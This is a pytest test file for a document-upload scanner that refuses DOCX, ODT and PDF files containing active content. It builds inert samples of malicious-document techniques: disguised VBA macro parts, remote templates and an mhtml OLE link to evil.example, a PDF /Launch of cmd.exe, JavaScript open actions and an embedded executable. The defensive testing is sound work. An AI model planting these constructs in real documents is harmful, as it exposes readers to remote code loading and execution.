"""Documents editors offer for download may not run anything or fetch anything when a resident opens them
(core/document_content.py, asked by core.documents.DocumentField). Every file here is built in memory."""

import zlib

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile

from core.document_content import EMBEDDED, MACROS, REMOTE, SCRIPT
from core.documents import DocumentField, active_content
from tests.knowledgebase.document_helpers import DOCX_CONTENT_TYPES, PDF, docx, odt, zip_bytes

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # the header of a compound file (a VBA project)


def upload(content: bytes, name="document") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def finding(content: bytes, kind: str):
    return active_content(upload(content), kind)


def rels(*relationships: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'


def relationship(kind: str, target: str, *, external=False, rel_id="rId9", kind_base=OFFICE_RELS) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{kind_base}/{kind}" Target="{target}"{mode}/>'


def content_types(*overrides: str, main="wordprocessingml.document.main+xml") -> str:
    return DOCX_CONTENT_TYPES.replace("wordprocessingml.document.main+xml", main).replace(
        "</Types>", "".join(overrides) + "</Types>"
    )


def override(part: str, content_type: str) -> str:
    return f'<Override PartName="{part}" ContentType="{content_type}"/>'


# --- DOCX ----------------------------------------------------------------------------------------------

DOCX_REFUSED = {
    # A VBA project renamed to look like any other part: its content gives it away.
    "macro-part-renamed": (docx(**{"word/fontTable2.xml": OLE}), EMBEDDED),
    "macro-part-renamed-and-declared": (
        docx(
            **{
                "[Content_Types].xml": content_types(
                    override("/word/pictures.xml", "application/vnd.ms-office.vbaProject")
                ),
                "word/_rels/document.xml.rels": rels(
                    relationship(
                        "vbaProject",
                        "pictures.xml",
                        kind_base="http://schemas.microsoft.com/office/2006/relationships",
                    )
                ),
                "word/pictures.xml": b'Attribute VB_Name = "ThisDocument"',
            }
        ),
        MACROS,
    ),
    "macro-relationship-only": (
        docx(
            **{
                "word/_rels/document.xml.rels": rels(
                    relationship(
                        "vbaProject",
                        "image1.png",
                        kind_base="http://schemas.microsoft.com/office/2006/relationships",
                    )
                )
            }
        ),
        MACROS,
    ),
    "macro-enabled-main-part": (
        docx(**{"[Content_Types].xml": content_types(main="ms-word.document.macroEnabled.main+xml")}),
        MACROS,
    ),
    "template-main-part": (
        docx(**{"[Content_Types].xml": content_types(main="wordprocessingml.template.main+xml")}),
        MACROS,
    ),
    "any-bin-part": (docx(**{"word/media/image1.bin": b"harmless?"}), EMBEDDED),
    "vba-data-part": (docx(**{"word/vbaData.xml": "<wne:vbaSuppData/>"}), MACROS),
    "activex-content-type": (
        docx(
            **{
                "[Content_Types].xml": content_types(
                    override("/word/activeX/x.xml", "application/vnd.ms-office.activeX+xml")
                )
            }
        ),
        EMBEDDED,
    ),
    "embedded-object": (docx(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK"}), EMBEDDED),
    "remote-template": (
        docx(
            **{
                "word/_rels/settings.xml.rels": rels(
                    relationship("attachedTemplate", "https://evil.example/sjabloon.dotm", external=True)
                )
            }
        ),
        REMOTE,
    ),
    "remote-template-with-an-escaped-mode": (
        docx(
            **{
                "word/_rels/settings.xml.rels": rels(
                    '<Relationship Id="rId1" Type="http://example.org/x/other" '
                    'Target="\\\\evil.example\\share\\t.dotm" TargetMode="&#69;xternal"/>'
                )
            }
        ),
        REMOTE,
    ),
    "remote-image": (
        docx(
            **{
                "word/_rels/document.xml.rels": rels(
                    relationship("image", "http://evil.example/pixel.png", external=True)
                )
            }
        ),
        REMOTE,
    ),
    "remote-ole-object": (
        docx(
            **{
                "word/_rels/document.xml.rels": rels(
                    relationship("oleObject", "mhtml:http://evil.example/x.html!x", external=True)
                )
            }
        ),
        EMBEDDED,
    ),
    "link-to-a-network-share": (
        docx(
            **{
                "word/_rels/document.xml.rels": rels(
                    relationship("hyperlink", "file://evil.example/share/x.docx", external=True)
                )
            }
        ),
        REMOTE,
    ),
    "entity-declarations": (
        docx(
            **{
                "word/_rels/document.xml.rels": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]>'
                f'<Relationships xmlns="{RELS_NS}"/>'
            }
        ),
        EMBEDDED,
    ),
}


@pytest.mark.parametrize("case", list(DOCX_REFUSED))
def test_a_docx_that_runs_embeds_or_fetches_something_is_refused(case):
    content, expected = DOCX_REFUSED[case]

    assert finding(content, "docx") == expected


def test_a_plain_docx_and_one_with_web_and_mail_links_are_accepted():
    linked = docx(
        **{
            "word/_rels/document.xml.rels": rels(
                relationship("styles", "styles.xml", rel_id="rId1"),
                relationship("hyperlink", "https://www.doetinchem.nl/", external=True, rel_id="rId2"),
                relationship("hyperlink", "mailto:loket@example.org", external=True, rel_id="rId3"),
            ),
            "word/styles.xml": "<w:styles/>",
        }
    )

    assert finding(docx(), "docx") is None
    assert finding(linked, "docx") is None


def test_an_odt_with_macros_is_refused():
    with_macros = zip_bytes(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": "<x/>",
            "Basic/Standard/Module1.xml": "<script:module/>",
        },
        stored={"mimetype"},
    )

    assert finding(odt(), "odt") is None
    assert finding(with_macros, "odt") == MACROS


# --- PDF -----------------------------------------------------------------------------------------------


def pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    """A PDF of one page whose catalog has `catalog` added, followed by `objects` (numbered from 4)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(objects: bytes, *, filters=b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(objects) if b"FlateDecode" in filters else objects
    return stream(b"/Type /ObjStm /N 1 /First 5 " + filters, packed)


PDF_REFUSED = {
    "javascript-on-opening": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "javascript-by-reference": pdf(
        b"<< /S /JavaScript /JS 5 0 R >>", b"(app.alert(1))", catalog=b"/OpenAction 4 0 R"
    ),
    "javascript-name-tree": pdf(b"<< /Names [(x) 5 0 R] >>", catalog=b"/Names << /JavaScript 4 0 R >>"),
    "hex-escaped-names": pdf(catalog=b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "page-actions": pdf(catalog=b"/AA << /WC << /S /URI /URI (https://evil.example) >> >>"),
    "launch": pdf(b"<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>"),
    "embedded-file": pdf(
        stream(b"/Type /EmbeddedFile", b"MZ\x90\x00"),
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 4 0 R >> >>] >> >>",
    ),
    "open-action-to-a-website": pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "javascript-in-an-object-stream": pdf(
        object_stream(b"5 0 << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>")
    ),
    "object-stream-we-cannot-unpack": pdf(
        object_stream(b"5 0 <</x 1>>", filters=b"/Filter /LZWDecode"),
    ),
    "object-stream-that-is-no-zlib": pdf(
        stream(b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", b"not zlib")
    ),
    "objects-hidden-in-a-fake-stream": pdf(
        stream(b"/Length 1", b"5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj")
    ),
}


@pytest.mark.parametrize("case", list(PDF_REFUSED))
def test_a_pdf_with_javascript_actions_or_embedded_files_is_refused(case):
    content = PDF_REFUSED[case]
    assert finding(content, "pdf") is not None


def test_what_a_pdf_has_is_named():
    assert finding(PDF_REFUSED["javascript-on-opening"], "pdf") == SCRIPT
    assert finding(PDF_REFUSED["embedded-file"], "pdf") == EMBEDDED


PDF_ACCEPTED = {
    "plain": PDF,
    "opens-at-a-page": pdf(catalog=b"/OpenAction [3 0 R /FitH null] /PageMode /UseOutlines"),
    "web-link": pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.doetinchem.nl/) >> >>"),
    "font-subset-whose-name-starts-like-a-key": pdf(b"<< /Type /Font /BaseFont /AAAAAB+Arial /JSFont 1 >>"),
    # Compressed page content and an image may hold any bytes, "/JS" and "/AA " among them.
    "binary-stream": pdf(stream(b"/Filter /FlateDecode", b"\x00/JS /AA\n/OpenAction /Launch\xff")),
    "harmless-object-stream": pdf(object_stream(b"5 0 << /Type /Font /BaseFont /Helvetica >>")),
}


@pytest.mark.parametrize("case", list(PDF_ACCEPTED))
def test_an_ordinary_pdf_is_accepted(case):
    assert finding(PDF_ACCEPTED[case], "pdf") is None


# --- The form field ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [DOCX_REFUSED["remote-template"][0], DOCX_REFUSED["macro-part-renamed"][0], PDF_REFUSED["launch"]],
    ids=["remote-template", "renamed-macro", "pdf-launch"],
)
def test_the_field_refuses_active_content_with_a_clear_dutch_message(content):
    with pytest.raises(forms.ValidationError) as refused:
        DocumentField().clean(upload(content, "draaiboek"))

    assert refused.value.code == "active_content"
    [message] = refused.value.messages
    assert message.startswith("Dit document bevat ")
    assert "PDF" in message


def test_the_field_still_accepts_a_plain_document():
    assert DocumentField().clean(upload(PDF_ACCEPTED["opens-at-a-page"], "x")).name.endswith(".pdf")
